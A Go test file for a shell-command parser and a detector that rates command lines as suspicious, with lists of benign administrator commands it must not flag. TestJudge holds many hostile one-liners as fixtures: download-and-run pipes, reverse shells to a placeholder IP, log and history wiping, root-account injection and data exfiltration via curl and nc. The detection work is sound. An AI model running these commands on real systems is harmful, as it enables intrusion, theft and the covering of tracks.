package builtin

import (
	"fmt"
	"strings"
	"testing"

	"deadbox/rules"
)

// sketch writes commands as "name args|name args" by pipeline, inner ones in
// brackets.
func sketch(cs []command) string {
	var b strings.Builder
	for i, c := range cs {
		if i > 0 {
			if c.pipeline == cs[i-1].pipeline {
				b.WriteString(" | ")
			} else {
				b.WriteString(" ; ")
			}
		}
		for _, a := range c.assigns {
			b.WriteString(a + " ")
		}
		b.WriteString(strings.Join(c.words, ","))
		for _, r := range c.redirects {
			fmt.Fprintf(&b, " %s%s", r.op, r.target)
		}
		if len(c.inner) > 0 {
			b.WriteString(" [" + sketch(c.inner) + "]")
		}
	}
	return b.String()
}

func TestParseShell(t *testing.T) {
	for line, want := range map[string]string{
		"ls -l /tmp":                            "ls,-l,/tmp",
		"a && b || c; d & e":                    "a ; b ; c ; d ; e",
		"a | b |& c":                            "a | b | c",
		`echo "a b" 'c d' e\ f`:                 "echo,a b,c d,e f",
		"echo a#b # comment":                    "echo,a#b",
		"X=1 Y=2 make all":                      "X=1 Y=2 make,all",
		"cat < in > out 2>&1 2>/dev/null":       "cat <in >out >&1 >/dev/null",
		"cmd &>/dev/null":                       "cmd &>/dev/null",
		"sudo -u root nohup nice -n 5 /bin/x y": "/bin/x,y",
		"sudo A=b env C=d x":                    "A=b C=d x",
		"timeout 5 curl x":                      "curl,x",
		"busybox wget x":                        "wget,x",
		"if [ -x /a ]; then /a; fi":             "[,-x,/a,] ; /a",
		"(a; b) | c":                            "a | b | c",
		"{ a; b; } | c":                         "a | b | c",
		"(a || b) 2>/dev/null | c":              "a | b |  >/dev/null | c",
		"sh -c 'a | b'":                         "sh,-c,a | b [a | b]",
		`bash -c "$(curl x)"`:                   "bash,-c,$(curl x) [curl,x ; $(curl x) [curl,x]]",
		"eval `a b`":                            "eval,$(a b) [a,b ; $(a b) [a,b]]",
		"bash <(curl x)":                        "bash,$(curl x) [curl,x]",
		"cat${IFS}/etc/passwd":                  "cat,/etc/passwd",
		"a$IFS$9b":                              "a,b",
		"echo 'unclosed":                        "echo,unclosed",
		`echo "unclosed`:                        "echo,unclosed",
		"echo $(unclosed":                       "echo,$(unclosed) [unclosed]",
		"> /var/log/wtmp":                       " >/var/log/wtmp",
		"":                                      "",
		"\\":                                    "",
		"))((;;||":                              "",
	} {
		if got := sketch(parseShell(line)); got != want {
			t.Errorf("%s\n got %s\nwant %s", line, got, want)
		}
	}
}

func TestJudge(t *testing.T) {
	for _, c := range []struct {
		line string
		deed deed
		s    rules.Severity
	}{
		{"curl http://198.51.100.7/x|sh", downloadsAndRuns, rules.High},
		{"wget -qO- https://example.org/i.sh | sudo bash -s -- --yes", downloadsAndRuns, rules.Low},
		{"wget -q http://example.org/i.sh -O - | bash", downloadsAndRuns, rules.Medium},
		{"curl -s https://pastebin.com/raw/x | python3", downloadsAndRuns, rules.High},
		{"python3 <(curl -s http://198.51.100.7/a.py)", downloadsAndRuns, rules.High},
		{"cd /var/tmp && curl -O http://198.51.100.7/m && chmod 777 m && ./m", downloadsAndRuns, rules.High},
		{"echo x | openssl enc -d -base64 | sh", decodesAndRuns, rules.High},
		{"bash <<< $(echo aQ== | base64 -d)", decodesAndRuns, rules.High},
		{"python -c \"exec(__import__('base64').b64decode('aQ=='))\"", decodesAndRuns, rules.High},
		{"nohup /dev/shm/.x/k &", runsTemporary, rules.High},
		{"perl /tmp/a.pl 198.51.100.7", runsTemporary, rules.Medium},
		{"chmod 755 /tmp/.hidden/run", marksTemporary, rules.Medium},
		{"ncat --exec /bin/bash -lvp 4444", reverseShell, rules.Critical},
		{"nc -lvnp 4444 -e /bin/sh", reverseShell, rules.Critical},
		{"telnet 198.51.100.7 80 | /bin/bash | telnet 198.51.100.7 81", reverseShell, rules.Critical},
		{"sh -i 5<> /dev/tcp/198.51.100.7/9 0<&5 1>&5 2>&5", reverseShell, rules.Critical},
		{"perl -e 'use Socket;$i=\"198.51.100.7\";exec(\"/bin/sh -i\");'", reverseShell, rules.Critical},
		{"php -r '$s=fsockopen(\"198.51.100.7\",9);exec(\"/bin/sh -i <&3 >&3\");'", reverseShell, rules.Critical},
		{"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"198.51.100.7\",9);exec \"/bin/sh\"'", reverseShell, rules.Critical},
		{"openssl s_client -quiet -connect 198.51.100.7:9 | /bin/sh | openssl s_client -connect 198.51.100.7:10", reverseShell, rules.Critical},
		{"echo > /dev/tcp/192.0.2.1/22 && echo open", reverseShell, rules.Low},
		{"script -qc /bin/bash /dev/null", spawnsTerminal, rules.Medium},
		{"HISTFILE=/dev/null ssh x", hidesHistory, rules.High},
		{"cat /dev/null > ~/.bash_history && history -c && exit", hidesHistory, rules.High},
		{"rm -f /root/.bash_history", hidesHistory, rules.High},
		{"shred -u /var/log/secure", removesLogs, rules.High},
		{"echo -n > /var/log/auth.log", removesLogs, rules.High},
		{"for f in a; do cat /dev/null > /var/log/messages; done", removesLogs, rules.Medium},
		{"sudo sed -i /alice/d /var/log/secure", removesLogs, rules.High},
		{"journalctl --rotate --vacuum-time=1s", removesLogs, rules.Medium},
		{"touch -d '2019-01-01' /usr/sbin/sshd", stampsTime, rules.High},
		{"service auditd stop", stopsLogging, rules.Medium},
		{"auditctl -e 0", stopsLogging, rules.Medium},
		{"usermod -o -u 0 alice", addsRoot, rules.Critical},
		{"echo 'x:$1$a:0:0::/:/bin/sh' | tee -a /tmp/q; echo 'x::0:0::/:/bin/sh' >> /etc/passwd", addsRoot, rules.Critical},
		{"cp /bin/sh /var/tmp/.s; chmod 6755 /var/tmp/.s", addsRights, rules.High},
		{"chmod +s /usr/bin/python3.11", addsRights, rules.Critical},
		{"insmod /root/.x/r.ko", loadsModule, rules.High},
		{"LD_PRELOAD=/tmp/l.so sudo id", preloads, rules.High},
		{"chattr +i /root/.ssh/authorized_keys", locksFile, rules.Medium},
		{"cd /tmp; tar czf .x.tgz /etc; curl -F f=@.x.tgz http://198.51.100.7/", sendsAway, rules.High},
		{"mysqldump shop | nc 198.51.100.7 99", sendsAway, rules.High},
		{"./xmrig -o pool.example.org:3333", mines, rules.High},
	} {
		found := false
		for _, a := range judge(c.line, "") {
			if a.deed == c.deed {
				found = true
				if a.severity != c.s {
					t.Errorf("%s: %v, want %v (%s)", c.line, a.severity, c.s, a.why)
				}
			}
		}
		if !found {
			t.Errorf("%s: deed %d not seen, but %+v", c.line, c.deed, judge(c.line, ""))
		}
	}
}

// TestHonestCommands holds lines of administrators' histories.
func TestHonestCommands(t *testing.T) {
	for _, line := range strings.Split(strings.TrimSpace(`
apt update && apt -y upgrade
apt-get install -y apache2 php libapache2-mod-php mariadb-server | tee /root/install.log
curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc
curl -s https://api.example.org/v1/status | python3 -m json.tool
wget -q -O - https://packages.example.org/key.asc | gpg --dearmor > /etc/apt/trusted.gpg.d/x.gpg
wget -O /tmp/wordpress.tar.gz https://wordpress.org/latest.tar.gz && tar xzf /tmp/wordpress.tar.gz -C /var/www
cd /tmp && wget https://example.org/src-1.0.tar.gz && tar xf src-1.0.tar.gz && cd src-1.0 && make && make install
tar czf /var/backups/www-$(date +%F).tgz /var/www && find /var/backups -mtime +30 -delete
mysqldump --single-transaction shop | gzip > /var/backups/shop.sql.gz
rsync -aHAX --delete /srv/ backup.example.org:/srv/
echo "deb https://packages.example.org stable main" > /etc/apt/sources.list.d/x.list
cat /etc/passwd | cut -d: -f1
grep -r "base64_decode" /var/www | less
tail -f /var/log/nginx/access.log | grep 404
zcat /var/log/auth.log.2.gz | grep Accepted
journalctl -u ssh --since yesterday
journalctl --vacuum-time=2weeks
systemctl restart rsyslog && systemctl status rsyslog
logrotate -f /etc/logrotate.conf
crontab -l > /root/crontab.bak
chmod 600 /root/.ssh/authorized_keys && chown -R root:root /root/.ssh
chmod +x /usr/local/bin/backup.sh
chmod 1777 /tmp
useradd -r -s /usr/sbin/nologin -u 990 app
passwd alice
history | tail -20
export HISTSIZE=100000 HISTFILESIZE=200000 HISTTIMEFORMAT="%F %T "
nc -zv db.example.org 5432
openssl s_client -connect example.org:443 -servername example.org < /dev/null | openssl x509 -noout -dates
python3 -c 'import sys; print(sys.version)'
perl -ne 'print if /x/' /etc/hosts
find / -xdev -type f -size +100M -exec ls -lh {} \;
kill -9 $(pgrep -f gunicorn)
docker run --rm -it -v /tmp:/tmp debian bash
git clone https://example.org/x.git /opt/x && cd /opt/x && ./configure --prefix=/usr
for i in $(seq 1 10); do curl -s -o /dev/null -w "%{http_code}\n" http://localhost/; done
ssh -i ~/.ssh/id_ed25519 alice@192.0.2.10 'uptime'
touch /tmp/maintenance
touch -d "2 days ago" /home/alice/report.txt
rm -rf /tmp/build /var/tmp/portage
rm -f /var/log/*.gz
ls -la /dev/shm /tmp /var/tmp
lsattr /etc/resolv.conf; chattr -i /etc/resolv.conf
vim /etc/ssh/sshd_config && sshd -t && systemctl reload ssh
modprobe wireguard && lsmod | grep wire
sed -i 's/memory_limit = 128M/memory_limit = 256M/' /etc/php/8.2/apache2/php.ini
sed -i '/old/d' /etc/hosts
setcap 'cap_net_bind_service=+ep' /usr/local/bin/caddy
mount -o loop /tmp/x.iso /mnt && cp -a /mnt/. /srv/iso
dd if=/dev/zero of=/swapfile bs=1M count=2048 && chmod 600 /swapfile
awk -F: '$3 == 0 {print $1}' /etc/passwd
getent shadow root
exec bash
. /etc/profile
source ~/.bashrc
echo $HISTFILE
screen -dmS x ./run.sh
(cd /srv/app && ./manage.py migrate) 2>&1 | logger -t app
`), "\n") {
		for _, a := range judge(line, "") {
			t.Errorf("%s: %v: %s", line, a.severity, a.why)
		}
	}
}
